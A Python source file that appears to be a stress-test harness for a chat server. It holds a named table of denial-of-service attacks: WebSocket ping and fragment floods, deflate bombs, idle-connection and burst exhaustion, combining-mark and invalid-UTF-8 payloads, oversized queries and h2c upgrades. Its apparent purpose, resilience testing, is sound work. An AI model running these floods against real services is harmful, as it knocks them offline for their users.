"""The attacks, each what one guest or a stranger does with all its strength; run as `python attacks.py NAME ADDRESS SECONDS`.

It runs in a process of its own, says "ready" when it has come in and prepared, waits for a line, and then attacks for so long.
"""

import asyncio
import os
import select
import socket
import sys
from collections.abc import Callable
from contextlib import asynccontextmanager, suppress
from itertools import count
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from abuse.means import LONG, AsyncAttack, Attack, Numbers, again, anonymous, flood, flooding, posted, pour, pouring, raw_requests
from abuse.wire import (
    ATTACKER,
    CONTINUATION,
    HERE,
    LOBBY,
    PING,
    PONG,
    TEXT,
    Guest,
    House,
    Socket,
    bomb,
    command,
    frame,
    hollow,
    request,
    sign_in,
    unique_words,
)

SOCKETS = 10
TOO_LONG = 60_000
"""Bytes that fit into one WebSocket message and nowhere else."""
MARKS = "\u0301\u0323"
IDLE_CONNECTIONS = 13_000
BURST = 400
SHORT_LIVES = 600
NICE = 5
"""Below the honest people, whose times are taken on the same core."""


def post(text: str) -> Callable[[Numbers], bytes]:
    return lambda numbers: (n := next(numbers)) and command(type="post", id=n, room=LOBBY, text=text, client_id=f"m-{os.getpid()}-{n}")


def new_words(numbers: Numbers) -> bytes:
    n = next(numbers)
    return command(type="post", id=n, room=LOBBY, text=unique_words(LONG), client_id=f"m-{n}")


async def edits(house: House) -> AsyncAttack:
    guest, numbers = await asyncio.to_thread(sign_in, house, "Mallory"), count(1)
    messages = await posted(house, guest, [unique_words(LONG) for _ in range(10)])

    def edit() -> bytes:
        n = next(numbers)
        return command(type="edit", id=n, room=LOBBY, message=messages[n % len(messages)], text=unique_words(LONG))

    yield lambda: again(lambda: pour(house, guest, edit, 20, 40))


async def many_a(house: House, guest: Guest) -> None:
    await posted(house, guest, ["a " * (LONG // 2)] * 38)
    await asyncio.sleep(2)  # until they are indexed


def phrase(numbers: Numbers) -> bytes:
    return command(type="search", id=next(numbers), query='"' + "a " * 90 + 'b"')


async def members(house: House) -> AsyncAttack:
    """Rooms without end, and everyone who is in the lobby put into each."""
    guest, numbers = await asyncio.to_thread(sign_in, house, "Mallory"), count(1)
    _, said = await asyncio.to_thread(request, house, "GET", f"/api/v1/rooms/{LOBBY}/members", None, guest)
    others = [each["user"]["id"] for each in said["members"] if each["user"]["id"] != guest.id]

    def make() -> bytes:
        n = next(numbers)
        if n % 3:
            return command(type="create_room", id=n, kind="private", name=f"Pit {n}", client_id=f"r-{n}", topic="x" * 200)
        return b"".join(command(type="add_member", id=n, room=2 + n // 3, user=other) for other in others)

    yield lambda: again(lambda: pour(house, guest, make, 60, 200))


def marked_name(number: int) -> tuple[str, str, object]:
    return "POST", "/api/v1/session", {"name": f"a{number}" + MARKS * (TOO_LONG // 4), "face": "f01"}


def marked_places(numbers: Numbers) -> bytes:
    n, marks = next(numbers), "a" + MARKS * 7_000
    kinds = (
        {"type": "create_room", "kind": "public", "name": marks, "client_id": f"r-{n}"},
        {"type": "create_room", "kind": "public", "name": "Pit", "topic": marks, "client_id": f"t-{n}"},
        {"type": "find_rooms", "query": f"{n}" + marks},
        {"type": "members", "room": LOBBY, "query": f"{n}" + marks},
        {"type": "search", "query": f"{n}" + marks},
    )
    return command(id=n, **kinds[n % len(kinds)])


def long_queries(numbers: Numbers) -> bytes:
    n = next(numbers)
    return command(type="find_rooms" if n % 2 else "members", id=n, room=LOBBY, query=f"{n} " + os.urandom(TOO_LONG // 2 - 200).hex())


async def idle_connections(house: House) -> AsyncAttack:
    """A stranger opens connections until the house is full, says nothing on them, and opens those anew that are closed."""

    async def act() -> None:
        await asyncio.to_thread(hold_open, house)

    yield act


def hold_open(house: House) -> None:
    """Hold as many as one may have files; by hand, because the house is full sooner than with a task for each."""
    poll, held = select.epoll(), dict[int, socket.socket]()
    while True:
        while len(held) < IDLE_CONNECTIONS:
            line = socket.socket()
            line.setblocking(False)
            line.bind((ATTACKER, 0))
            line.connect_ex((HERE, house.port))
            held[line.fileno()] = line
            poll.register(line, select.EPOLLIN | select.EPOLLRDHUP)
            if len(held) % 500 == 0:
                break
        for number, _ in poll.poll(0.01):
            with suppress(OSError):
                if held[number].recv(2**16):
                    continue
            held.pop(number).close()


async def bursts(house: House) -> AsyncAttack:
    """Hundreds of connections in one moment, cut in the next."""

    async def act() -> None:
        while True:
            crowd = [asyncio.open_connection(HERE, house.port, local_addr=(ATTACKER, 0)) for _ in range(BURST)]
            for each in await asyncio.gather(*crowd, return_exceptions=True):
                if not isinstance(each, BaseException):
                    each[1].write(b"GET / HTTP/1.1\r\n")
                    each[1].transport.abort()
            await asyncio.sleep(0)

    yield act


async def practice(house: House) -> AsyncAttack:
    """Every socket for practice that there is, each as busy as it may be, and again."""
    octets = frame(PING) * 2000 + frame(TEXT, b"x" * 100) * 100

    async def act() -> None:
        await asyncio.gather(*(again(lambda: flood(house, None, octets, hello=False, path="/api/v1/doctor/socket")) for _ in range(50)))

    yield act


def strangers(octets: bytes, connections: int) -> Attack:
    """The same bytes on so many connections, as fast as the house takes them."""

    async def attack(house: House) -> AsyncAttack:
        async def one() -> None:
            _, writer = await asyncio.open_connection(HERE, house.port, local_addr=(ATTACKER, 0))
            try:
                while not writer.transport.is_closing():
                    writer.write(octets)
                    await writer.drain()
            finally:
                writer.transport.abort()

        async def act() -> None:
            await asyncio.gather(*(again(one) for _ in range(connections)))

        yield act

    return attack


async def short_lives(house: House) -> AsyncAttack:
    """Connections by the thousand, each with a handshake and twenty thousand pings behind it, cut a moment later."""
    lines = [f"GET /ws HTTP/1.1\r\nHost: {house.host}", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"]
    octets = "\r\n".join([*lines, "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "", ""]).encode() + frame(PING) * 20_000
    held: list[socket.socket] = []

    async def act() -> None:
        while True:
            for _ in range(100):
                line = socket.socket()
                line.setblocking(False)
                line.bind((ATTACKER, 0))
                line.connect_ex((HERE, house.port))
                with suppress(OSError):
                    line.send(octets)
                held.append(line)
            for line in held[:-SHORT_LIVES]:
                line.close()
            del held[:-SHORT_LIVES]
            await asyncio.sleep(0.002)

    yield act


async def han_in_the_lobby(house: House, guest: Guest) -> None:
    await posted(house, guest, ["".join(chr(0x4E00 + byte) for byte in os.urandom(LONG // 3)) for _ in range(38)])


async def resumes(house: House) -> AsyncAttack:
    """Twenty compressed sockets that come back from the beginning of a room of long texts, again and again."""
    guest = await asyncio.to_thread(sign_in, house, "Mallory")
    await han_in_the_lobby(house, guest)
    first = await Socket.open(house, guest)
    await first.greet()
    while (welcome := await first.event() or {}).get("type") != "welcome":
        pass
    first.close()
    cursors = {str(welcome["inbox"]): welcome["inbox_head"], str(LOBBY): 0}

    async def come_back() -> None:
        returned = await Socket.open(house, guest, deflate=True)
        try:
            await returned.say(command(type="hello", id=1, epoch=welcome["epoch"], cursors=cursors))
            await asyncio.wait_for(returned.drop_all(), 0.5)
        finally:
            returned.close()

    async def act() -> None:
        await asyncio.gather(*(again(come_back) for _ in range(2 * SOCKETS)))

    yield act


async def pages(house: House) -> AsyncAttack:
    """Pages of long texts, asked for on twenty compressed sockets."""
    guest, numbers = await asyncio.to_thread(sign_in, house, "Mallory"), count(2)
    await han_in_the_lobby(house, guest)

    async def ask() -> None:
        asking = await Socket.open(house, guest, deflate=True)
        drop = asyncio.create_task(asking.drop_all())
        try:
            await asking.greet()
            while not drop.done():
                await asking.say(command(type="page", id=next(numbers), room=LOBBY, around=20, limit=200))
                await asyncio.sleep(0.4)
        finally:
            drop.cancel()
            asking.close()

    async def act() -> None:
        await asyncio.gather(*(again(ask) for _ in range(2 * SOCKETS)))

    yield act


def no_utf8(house: House, guest: Guest | None) -> bytes:
    body = b'{"name":"\xff\xfe","face":"f01"}'
    return _post(house, guest, "/api/v1/session", body)


def no_utf8_inside(house: House, guest: Guest | None) -> bytes:
    body = b'{"text":"' + b"\xff" * 30_000 + b'","client_id":"x"}'
    return _post(house, guest, f"/api/v1/rooms/{LOBBY}/messages", body)


def h2c(house: House, guest: Guest | None) -> bytes:
    offer = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk")
    return _post(house, guest, "/api/v1/session", b'{"name":"Java","face":"nobody"}', *offer)


def _post(house: House, guest: Guest | None, path: str, body: bytes, *more: str) -> bytes:
    lines = [f"POST {path} HTTP/1.1", f"Host: {house.host}", f"Origin: {house.address}", "Content-Type: application/json", *more]
    lines += [f"Cookie: teahouse_session={guest.cookie}"] if guest else []
    return "\r\n".join([*lines, f"Content-Length: {len(body)}", "", ""]).encode() + body


FRAGMENTS = frame(TEXT, fin=False) + frame(CONTINUATION, fin=False) * 60 + frame(CONTINUATION)
A_DOOR = "/doors/shout"

ATTACKS: dict[str, tuple[str, Attack]] = {
    "rooms": ("7 rooms without end, everyone put into them", members),
    "words": ("9 32 KB of new words, ten a second", pouring(new_words, 12, 40)),
    "edits": ("9 edits of long messages", edits),
    "phrases": ("10 phrases in 32 KB of a a a", pouring(phrase, 6, 15, many_a)),
    "pings": ("11 empty pings, one socket", flooding(frame(PING), 1)),
    "pings10": ("11 empty pings, ten sockets", flooding(frame(PING), SOCKETS)),
    "pongs": ("11 empty pongs before hello, ten sockets", flooding(frame(PONG), SOCKETS, hello=False)),
    "texts": ("11 empty texts, ten sockets", flooding(frame(TEXT), SOCKETS)),
    "fragments": ("11 empty fragments, ten sockets", flooding(FRAGMENTS, SOCKETS)),
    "bombs": ("11 deflated bombs, ten sockets", flooding(bomb(65_000), SOCKETS)),
    "hollow": ("11 deflated blocks that say nothing, ten sockets", flooding(hollow(5_700), SOCKETS)),
    "blanks": ("11 blank lines, one stranger's connection", strangers(b"\r\n" * 65_536, 1)),
    "doors": ("11 empty pings and texts at a door, ten sockets", flooding(frame(PING) + frame(TEXT), SOCKETS, hello=False, path=A_DOOR)),
    "marks": ("12 marks in messages", pouring(post("a" + MARKS * 7_900), 50, 200)),
    "marks_long": ("12 marks in messages too long", pouring(post("a" + MARKS * (TOO_LONG // 4)), 50, 200)),
    "marks_names": ("12 marks in a stranger's name", anonymous(marked_name, 4)),
    "marks_places": ("12 marks in room names, topics, queries", pouring(marked_places, 50, 200)),
    "queries": ("12 long queries, each another", pouring(long_queries, 50, 200)),
    "resumes": ("12 coming back to long texts, compressed, twenty sockets", resumes),
    "pages": ("12 pages of long texts, compressed, twenty sockets", pages),
    "idle": ("13 idle connections until it is full", idle_connections),
    "bursts": ("13 bursts of connections", bursts),
    "short": ("13 short connections by the thousand", short_lives),
    "practice": ("13 sockets for practice", practice),
    "no_utf8": ("14 bodies that are no UTF-8, a stranger's", raw_requests(no_utf8, signed_in=False)),
    "no_utf8_guest": ("14 bodies that are no UTF-8, a guest's", raw_requests(no_utf8_inside, signed_in=True)),
    "h2c": ("14 posts that offer h2c", raw_requests(h2c, signed_in=False)),
}
"""By name: what a row of the table says, with the point of the list of holes that it belongs to; and the attack."""


async def main(name: str, address: str, seconds: float) -> None:
    house = House(address)
    async with asynccontextmanager(ATTACKS[name][1])(house) as act:
        print("ready", flush=True)
        await asyncio.to_thread(sys.stdin.readline)
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await act()
        os._exit(0)  # with all its connections, and without waiting for threads that wait for the house


if __name__ == "__main__":
    os.nice(NICE)
    asyncio.run(main(sys.argv[1], sys.argv[2], float(sys.argv[3])))
